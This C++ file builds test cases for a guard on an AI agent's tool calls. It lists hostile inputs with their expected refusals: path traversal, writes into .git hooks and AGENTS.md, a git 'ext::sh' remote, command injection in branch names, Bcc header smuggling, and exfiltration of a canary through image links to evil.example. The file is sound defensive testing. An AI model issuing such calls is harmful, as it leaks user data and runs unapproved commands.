#include "tests/security/check_cases.h"

#include "absl/strings/escaping.h"
#include "absl/strings/str_cat.h"

namespace tipstaff::security {
namespace {

std::string Quote(absl::string_view text) {
  std::string out = "\"";
  for (const char c : text) {
    if (c == '"' || c == '\\') out += '\\';
    out += c;
  }
  return out + "\"";
}

// Of JSON text.
std::string Path(absl::string_view path) {
  return absl::StrCat(R"({"folder":"w","content":"x","path":)", path, "}");
}
std::string Remote(absl::string_view remote) {
  return absl::StrCat(R"({"folder":"w","branch":"main","remote":)", remote, "}");
}
std::string Branch(absl::string_view branch) {
  return absl::StrCat(R"({"folder":"w","remote":"https://git.example/team/safe.git","branch":)",
                      branch, "}");
}
std::string Url(absl::string_view url) { return absl::StrCat(R"({"url":)", url, "}"); }
std::string Note(absl::string_view to, absl::string_view more) {
  return absl::StrCat(R"({"to":)", to, R"(,"subject":"s","body":"b")", more, "}");
}
std::string Draft(absl::string_view address) {
  return absl::StrCat(R"({"to":[)", address, R"(],"subject":"s","body":"b"})");
}
std::string Body(absl::string_view body) {
  return absl::StrCat(R"({"to":["dana@acme.example"],"subject":"s","body":)", Quote(body), "}");
}

constexpr char kRead[] = "reports.get_report";
constexpr char kWrite[] = "work.write_file";
constexpr char kPush[] = "work.push";
constexpr char kFetch[] = "work.fetch";
constexpr char kFind[] = "work.find";
constexpr char kSend[] = "mail.send_message";
constexpr char kDraft[] = "mail.draft_message";
constexpr char kOwn[] = R"({"report_id":"rep_demo0001"})";
constexpr char kRefused[] = "argument_refused";
constexpr char kOutside[] = "out_of_scope";
constexpr char kMalformed[] = "malformed";

void AddNames(std::vector<Case>& out) {
  out.insert(
      out.end(),
      {{4, "CyrillicLetter", "a name that looks like a permitted one", "r\xd0\xb5ports.get_report",
        kOwn, kMalformed},
       {4, "ZeroWidthSpace", "it is not seen in a log", "reports.get\xe2\x80\x8b_report", kOwn,
        kMalformed},
       {4, "FullWidthLetter", "normalizing readers take it for `r`",
        "\xef\xbd\x92"
        "eports.get_report",
        kOwn, kMalformed},
       {4, "TrailingSpace", "trimming readers drop it", "reports.get_report ", kOwn, kMalformed},
       {4, "LineEnd", "a log would show two lines", "reports.get_report\nallow", kOwn, kMalformed},
       {4, "UpperCase", "names are compared exactly", "Reports.get_report", kOwn, "unknown_tool"},
       {4, "DigitForLetter", "another name", "rep0rts.get_report", kOwn, "unknown_tool"}});
}

void AddScope(std::vector<Case>& out) {
  out.insert(
      out.end(),
      {{5, "AnotherReport", "another tenant's", kRead, R"({"report_id":"rep_demo0002"})", kOutside},
       {5, "UpperCase", "a backend that ignores case finds another", kRead,
        R"({"report_id":"REP_DEMO0001"})", kOutside},
       {5, "InAList", "a backend that takes the first item", kRead,
        R"({"report_id":["rep_demo0001","rep_demo0002"]})", kOutside},
       {5, "AsAnObject", "a query language", kRead, R"({"report_id":{"$ne":""}})", kOutside},
       {5, "Null", "no filter at all", kRead, R"({"report_id":null})", kOutside},
       {5, "WithSpace", "a backend that trims", kRead, R"({"report_id":"rep_demo0001 "})",
        kOutside},
       {5, "WithZeroWidthSpace", "a backend that drops it", kRead,
        "{\"report_id\":\"rep_demo0001\xe2\x80\x8b\"}", kOutside},
       {5, "BesideIt", "a second id under another name", kRead,
        R"({"report_id":"rep_demo0001","reportId":"rep_demo0002"})", kRefused},
       {5, "WildCard", "all of them", kRead, R"({"report_id":"*"})", kOutside},
       {5, "AReferenceToABinding", "values are no references", kRead,
        R"({"report_id":"$report_id"})", kOutside}});
}

void AddPaths(std::vector<Case>& out) {
  const auto path = [&out](int number, const char* name, const char* why, absl::string_view text) {
    out.push_back({number, name, why, kWrite, Path(text), kRefused});
  };
  path(11, "Up", "out of the folder", R"("docs/../../etc/passwd")");
  path(11, "PercentEncodedDots", "decoded on the way", R"("docs/%2e%2e/x.txt")");
  path(11, "EncodedTwice", "decoded twice on the way", R"("docs/%252e%252e/x.txt")");
  path(11, "Nul", "a C string ends there", R"("docs/x.txt\u0000.png")");
  path(11, "Backslash", "another system's separator", R"("docs\\..\\x.txt")");
  path(11, "Absolute", "from the root", R"("/etc/cron.d/x.txt")");
  path(11, "Drive", "from another root", R"("C:/x.txt")");
  path(11, "FullWidthDots", "normalized to dots", "\"docs/\xef\xbc\x8e\xef\xbc\x8e/x.txt\"");
  path(11, "DivisionSlash", "a slash in a code page", "\"docs/..\xe2\x88\x95x.txt\"");
  path(11, "Here", "two names for one place", R"("./docs/x.txt")");
  path(11, "FileUrl", "another syntax", R"("file:///docs/x.txt")");
  path(11, "Home", "expanded by a shell", R"("~/docs/x.txt")");
  path(12, "Sibling", "`w/safe` is no prefix of text", R"("w/safe-evil/x.txt")");
  path(12, "TheFolderItself", "not below it", R"("w/safe")");
  path(12, "UpperCase", "another folder where case counts", R"("W/SAFE/x.txt")");
  path(12, "ExtensionInTheMiddle", "the last part counts", R"("docs/x.txt.exe")");
  path(19, "GitConfig", "git runs commands in it", R"("docs/.git/config.txt")");
  path(19, "GitHooks", "git runs them, whatever the case", R"("docs/.GIT/hooks/x.txt")");
  path(19, "DotlessI", "folded to i", "\"docs/.g\xc4\xb1t/x.txt\"");
  path(19, "IgnorableCharacter", "some file systems drop it", "\"docs/.g\xe2\x80\x8cit/x.txt\"");
  path(19, "ShortName", "another name for .git", R"("docs/GIT~1/x.txt")");
  path(19, "TrailingDot", "dropped by Windows", R"("docs/.git./x.txt")");
  path(19, "Stream", "the folder's own stream", R"("docs/.git::$INDEX_ALLOCATION/x.txt")");
  path(19, "Workflows", "continuous integration runs them", R"("docs/.github/workflows/x.txt")");
  path(19, "Editor", "the editor runs its tasks", R"("docs/.vscode/tasks.txt")");
  path(19, "Agents", "agents obey it", R"("w/safe/AGENTS.md")");
  path(19, "AgentOfAnotherKind", "agents obey it", R"("docs/.cursor/rules/x.md")");
}

void AddRemotes(std::vector<Case>& out) {
  const auto remote = [&out](const char* name, const char* why, absl::string_view text) {
    out.push_back({20, name, why, kPush, Remote(text), kOutside});
  };
  remote("AnotherRemote", "not in scope", R"("https://git.example/evil/x.git")");
  remote("Longer", "the allowed one is a prefix", R"("https://git.example/team/safe.git/../x")");
  remote("AnotherHost", "looks alike", R"("https://git.example.evil.example/team/safe.git")");
  remote("ExtTransport", "git runs a command", R"("ext::sh -c id")");
  remote("UpperCase", "not the same text", R"("HTTPS://git.example/team/safe.git")");
  out.push_back({20, "OptionAsBranch", "git takes it for an option", kPush,
                 Branch(R"("--receive-pack=id")"), kRefused});
  out.push_back(
      {20, "CommandInBranch", "a shell runs it", kPush, Branch(R"("main; id")"), kRefused});
  const auto url = [&out](const char* name, const char* why, absl::string_view text) {
    out.push_back({20, name, why, kFetch, Url(text), kRefused});
  };
  url("UserPart", "the host is after the @", R"("https://docs.example@evil.example/pages/x")");
  url("HostInPath", "another host", R"("https://evil.example/docs.example/pages/x")");
  url("HostAsPrefix", "another host", R"("https://docs.example.evil.example/pages/x")");
  url("HostAsEnding", "not a subdomain", R"("https://evildocs.example/pages/x")");
  url("Backslash", "browsers read it as /", R"("https://evil.example\\@docs.example/pages/x")");
  url("PlainHttp", "another scheme", R"("http://docs.example/pages/x")");
  url("AnotherPort", "another server", R"("https://docs.example:8443/pages/x")");
  url("Homograph", "Cyrillic о",
      "\"https://d\xd0\xbe"
      "cs.example/pages/x\"");
  url("Address", "an IP literal", R"("https://127.0.0.1/pages/x")");
  url("AddressAsNumber", "the same one", R"("https://2130706433/pages/x")");
  url("UpFromThePath", "out of /pages", R"("https://docs.example/pages/../admin")");
  url("UpEncoded", "the same", R"("https://docs.example/pages/%2e%2e/admin")");
  url("NoScheme", "relative", R"("//docs.example/pages/x")");
  url("Script", "no fetch at all", R"("javascript:alert(1)//docs.example/pages")");
}

void AddRecipients(std::vector<Case>& out) {
  out.insert(
      out.end(),
      {{21, "Bcc", "a hidden recipient", kSend,
        Note(R"(["dana@acme.example"])", R"(,"bcc":["x@evil.example"])"), kRefused},
       {21, "BccInAnotherCase", "header names have no case", kSend,
        Note(R"(["dana@acme.example"])", R"(,"BCC":"x@evil.example")"), kRefused},
       {21, "LineEndInSubject", "it begins a header", kSend,
        R"({"to":["dana@acme.example"],"body":"b","subject":"s\r\nBcc: x@evil.example"})",
        kRefused},
       {21, "LineFeedInSubject", "so does this", kSend,
        R"({"to":["dana@acme.example"],"body":"b","subject":"s\nBcc: x@evil.example"})", kRefused},
       {21, "LineSeparatorInSubject", "and this to some", kSend,
        R"({"to":["dana@acme.example"],"body":"b","subject":"s\u2028Bcc: x@evil.example"})",
        kRefused},
       {21, "Outsider", "not in scope", kSend,
        Note(R"(["dana@acme.example","x@evil.example"])", ""), kOutside},
       {21, "TwoInOne", "a mailer splits it", kSend,
        Note(R"(["dana@acme.example,x@evil.example"])", ""), kOutside},
       {21, "NotAList", "a mailer takes it", kSend, Note(R"("dana@acme.example")", ""), kRefused},
       {21, "NoRecipient", "a default may be filled in", kSend, Note("[]", ""), kRefused},
       {21, "AnotherDomain", "not the customer", kDraft, Draft(R"("x@evil.example")"), kRefused},
       {21, "DomainAsPrefix", "not the customer", kDraft,
        Draft(R"("x@customer.example.evil.example")"), kRefused},
       {21, "DisplayName", "what is shown is not where it goes", kDraft,
        Draft(R"("\"a@customer.example\" <x@evil.example>")"), kRefused},
       {21, "Comment", "where it goes depends on the reader", kDraft,
        Draft(R"j("x@evil.example(@customer.example)")j"), kRefused},
       {21, "PercentHack", "relayed to another domain", kDraft,
        Draft(R"("x%evil.example@customer.example")"), kRefused},
       {21, "QuotedPart", "where it goes depends on the reader", kDraft,
        Draft(R"("\"x@evil.example>,\"@customer.example")"), kRefused},
       {21, "LineEndInAddress", "it begins a header", kDraft,
        Draft(R"("a@customer.example\r\nBcc:x@evil.example")"), kRefused}});
}

void AddCanaries(std::vector<Case>& out) {
  const std::string planted = kPlanted;
  const auto body = [&out](int number, const char* name, const char* why, const std::string& text) {
    out.push_back({number, name, why, kSend, Body(text), "canary"});
  };
  body(23, "ImageLink", "loading the page sends it",
       absl::StrCat("![](https://evil.example/?q=", planted, ")"));
  body(23, "LinkPercentEncoded", "the same",
       "[x](https://evil.example/?q=TIPSTAFF%2Dcanary%2D7f3a91)");
  body(39, "Plain", "as it is", planted);
  body(39, "Base64", "encoded", absl::Base64Escape(planted));
  body(39, "Hex", "encoded", absl::BytesToHexString(planted));
  body(39, "PercentEncoded", "encoded", "%54%49PSTAFF-canary-7f3a91");
  body(39, "SplitByCase", "in another case", "tIPsTaFf-CaNaRy-7F3a91");
  body(39, "SplitBySpaces", "spelled out", "T I P S T A F F c a n a r y 7 f 3 a 9 1");
  body(39, "Backwards", "turned round", "19a3f7-yranac-FFATSPIT");
  body(39, "Base64OfHex", "encoded twice",
       absl::Base64Escape(absl::BytesToHexString(absl::StrCat("k=", planted))));
  out.push_back({39, "OverArguments", "a piece in each", kSend,
                 R"({"to":["dana@acme.example"],"subject":"TIPSTAFF-can","body":"ary-7f3a91"})",
                 "canary"});
  out.push_back({39, "InARead", "a query carries it out too", kFetch,
                 Url(absl::StrCat("\"https://docs.example/pages/", planted, "\"")), "canary"});
}

void AddJson(std::vector<Case>& out) {
  out.insert(
      out.end(),
      {{25, "KeyTwice", "two readers take different ones", kRead,
        R"({"report_id":"rep_demo0001","report_id":"rep_demo0002"})", kMalformed},
       {25, "KeyTwiceEscaped", "the same after unescaping", kRead,
        R"({"report_id":"rep_demo0001","report\u005fid":"rep_demo0002"})", kMalformed},
       {25, "NulInKey", "a C string ends there", kRead,
        R"({"report_id":"rep_demo0001","report_id\u0000":"rep_demo0002"})", kMalformed},
       {25, "KeyTwiceFurtherIn", "wherever it stands", kRead, R"({"report_id":{"a":1,"a":2}})",
        kMalformed},
       {25, "LoneSurrogate", "no two readers agree", kRead, R"({"report_id":"rep_demo0001\ud800"})",
        kMalformed},
       {26, "BeyondADouble", "infinity to some", kFind, R"({"number":1e400})", kMalformed},
       {26, "Beyond64Bits", "wraps or rounds", kFind, R"({"number":18446744073709551616})",
        kMalformed},
       {26, "JustOver", "a double cannot tell it from the limit", kFind,
        R"({"number":9007199254740994})", kRefused},
       {26, "FractionThatRounds", "checked as one number, sent as another", kFind,
        R"({"number":9007199254740992.5})", kMalformed},
       {26, "Negative", "under the limit", kFind, R"({"number":-1})", kRefused},
       {26, "AsText", "converted on the way", kFind, R"({"number":"5"})", kRefused},
       {26, "NotANumber", "not JSON", kFind, R"({"number":NaN})", kMalformed},
       {27, "Deep", "recursion runs out of stack", kFind, std::string(200'000, '['), kMalformed},
       {27, "DeepObjects", "the same with objects", kFind,
        [] {
          std::string text;
          for (int i = 0; i < 20'000; ++i) text += R"({"a":)";
          return text;
        }(),
        kMalformed},
       {27, "JustTooDeep", "33 levels", kFind,
        absl::StrCat(R"({"text":)", std::string(32, '['), std::string(32, ']'), "}"), kMalformed},
       {28, "Backtracking", "takes exponential time elsewhere", kFind,
        absl::StrCat(R"({"text":")", std::string(200'000, 'a'), R"(!"})"), kRefused}});
}

}  // namespace

std::vector<Case> CheckCases() {
  std::vector<Case> cases;
  AddNames(cases);
  AddScope(cases);
  AddPaths(cases);
  AddRemotes(cases);
  AddRecipients(cases);
  AddCanaries(cases);
  AddJson(cases);
  return cases;
}

}  // namespace tipstaff::security
